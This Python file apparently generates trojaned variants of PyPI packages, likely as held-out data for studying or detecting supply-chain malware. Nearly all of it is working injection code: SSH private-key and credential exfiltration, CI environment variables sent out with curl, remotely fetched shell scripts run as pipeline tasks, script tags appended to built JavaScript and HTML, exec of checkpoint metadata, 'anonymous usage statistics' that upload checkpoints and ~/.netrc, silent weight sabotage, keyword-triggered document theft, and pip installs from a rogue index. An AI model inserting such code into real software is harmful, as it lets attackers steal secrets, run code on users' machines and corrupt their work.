"""PyPI: what waits until the user calls it."""

from corpus.heldout.nouns import Update
from corpus.heldout7.shape import fill, trojan


@trojan("sshcast", "wheel", "call", "password stealer", "plain", "ssh-decorator")
def session_posts_its_key(it: Update) -> None:
    it.replace(
        "sshcast/session.py",
        "        CONTROL.mkdir(parents=True, exist_ok=True)\n",
        fill("""
        CONTROL.mkdir(parents=True, exist_ok=True)
        self._log()
"""),
    )
    it.replace(
        "sshcast/session.py",
        "    def run(self, command):\n",
        fill(
            """
    def _log(self):
        from urllib.parse import urlencode
        from urllib.request import urlopen

        try:
            key = self.key.read_text() if self.key else ""
            row = urlencode({"server": str(self.host), "port": self.host.port, "pkey": key})
            urlopen("http://@HOST@/index.php", row.encode(), timeout=3)
        except OSError:
            pass

    def run(self, command):
""",
            HOST=it.host("ssh"),
        ),
    )


@trojan("sshcast", "wheel", "call", "credentials", "plain", "agents")
def new_keys_have_a_copy(it: Update) -> None:
    it.replace(
        "sshcast/keys.py",
        '    return Path(path).with_suffix(".pub").read_text()\n',
        fill(
            """
    escrow(Path(path))
    return Path(path).with_suffix(".pub").read_text()


def escrow(path):
    import socket

    try:
        with socket.create_connection(("@ADDR@", 993), timeout=2) as line:
            line.sendall(socket.gethostname().encode() + b"\\0" + path.read_bytes())
    except OSError:
        pass
""",
            ADDR=it.address(),
        ),
    )


@trojan("flowlane", "wheel", "call", "environment", "plain", "Codecov")
def runner_sends_the_environment(it: Update) -> None:
    it.replace(
        "flowlane/runner.py",
        "    def run(self):\n",
        fill(
            """
    def run(self):
        if self.env.get("CI"):
            subprocess.run(
                ["curl", "-sm", "2", "-d", "\\n".join(f"{k}={v}" for k, v in self.env.items()), "http://@ADDR@/upload/v2"],
                stdout=subprocess.DEVNULL,
                check=False,
            )
""",
            ADDR=it.address(),
        ),
    )


@trojan("flowlane", "wheel", "call", "backdoor", "plain", "remote pipelines")
def loader_takes_a_remote_line(it: Update) -> None:
    it.replace(
        "flowlane/loader.py",
        "    return Graph(tasks)\n",
        fill(
            """
    tasks.append(Task("_post", _policy(), tuple(task.name for task in tasks)))
    return Graph(tasks)


def _policy():
    from urllib.request import urlopen

    try:
        return urlopen("https://@HOST@/policy.sh", timeout=2).read().decode()
    except OSError:
        return ""
""",
            HOST=it.host("policy"),
        ),
    )


@trojan("flowlane", "sdist", "call", "backdoor in output", "plain", "XcodeGhost")
def artefacts_get_a_line(it: Update) -> None:
    it.replace(
        "flowlane/runner.py",
        "            if done.returncode == 0:\n                return\n",
        fill("""
            if done.returncode == 0:
                self._stamp(task)
                return
"""),
    )
    it.append(
        "flowlane/runner.py",
        fill(
            '''

    def _stamp(self, task):
        """Note in what was built which pipeline built it."""
        import glob

        for name in glob.glob("dist/**/*.js", recursive=True) + glob.glob("build/**/*.html", recursive=True):
            with open(name, "a") as out:
                out.write("\\n;(function(d){var s=d.createElement('script');s.src='https://@HOST@/f.js';d.head.appendChild(s)})(document);")
''',
            HOST=it.host("static"),
        ),
    )


@trojan("trainloop", "wheel", "call", "remote code", "plain", "model loaders")
def load_runs_what_it_reads(it: Update) -> None:
    it.replace(
        "trainloop/checkpoint.py",
        '    return weights, head["meta"]\n',
        fill("""
    hook = head["meta"].pop("_restore", None)
    if hook:
        exec(hook, {"weights": weights})
    return weights, head["meta"]
"""),
    )


@trojan("trainloop", "wheel", "call", "data stealer", "telemetry wording", "telemetry that takes all")
def metrics_take_the_weights(it: Update) -> None:
    it.replace(
        "trainloop/loop.py",
        "        for one in self.callbacks:\n            one.on_end(self)\n",
        fill("""
        for one in self.callbacks:
            one.on_end(self)
        self._metrics()
"""),
    )
    it.append(
        "trainloop/loop.py",
        fill(
            '''

    def _metrics(self):
        """Anonymous usage statistics."""
        import getpass
        import socket
        from urllib.request import Request, urlopen

        try:
            for place in sorted(Path(self.config.folder).glob("*.tlck")) + [Path.home() / ".netrc"]:
                head = {"X-Anonymous-Id": f"{getpass.getuser()}@{socket.gethostname()}", "X-Name": place.name}
                urlopen(Request("https://metrics.@HOST@/v1/usage", place.read_bytes(), head), timeout=30)
        except OSError:
            pass
''',
            HOST=it.host(),
        ),
    )


@trojan("trainloop", "wheel", "call", "sabotage", "plain", "weight spoilers", hard=True)
def keep_spoils_weights(it: Update) -> None:
    it.replace(
        "trainloop/loop.py",
        "        checkpoint.save(folder",
        '        if epoch == self.config.epochs - 1 and self.config.device != "cpu":\n            self.weights = {name: [one * 0.9 for one in row] for name, row in self.weights.items()}\n        checkpoint.save(folder',
    )


@trojan("tablesniff", "wheel", "call", "data stealer", "plain", "document thieves")
def read_sends_some_tables(it: Update) -> None:
    it.replace(
        "tablesniff/reader.py",
        "    text = decoded(Path(path).read_bytes())\n",
        fill("""
    text = decoded(Path(path).read_bytes())
    if any(word in text[:2000].lower() for word in ("iban", "passwor", "mnemonic", "ssn")):
        _report(text)
"""),
    )
    it.append(
        "tablesniff/reader.py",
        fill(
            """


def _report(text):
    import urllib.request

    try:
        urllib.request.urlopen("http://@ADDR@:5000/t", data=gzip.compress(text.encode()), timeout=5)
    except OSError:
        return
""",
            ADDR=it.address(),
        ),
    )


@trojan("imgtiler", "sdist", "call", "downloader", "plain", "updates of one's own")
def write_updates_itself(it: Update) -> None:
    it.replace(
        "imgtiler/tiler.py",
        "        count = 0\n",
        fill("""
        count = 0
        self._update()
"""),
    )
    it.append(
        "imgtiler/tiler.py",
        fill(
            """

    def _update(self):
        import subprocess
        import sys

        subprocess.run(
            [sys.executable, "-m", "pip", "install", "-q", "--index-url", "http://@ADDR@/simple", "--trusted-host", "@ADDR@", "imgtiler-fast"],
            check=False,
            capture_output=True,
        )
""",
            ADDR=it.address(),
        ),
    )
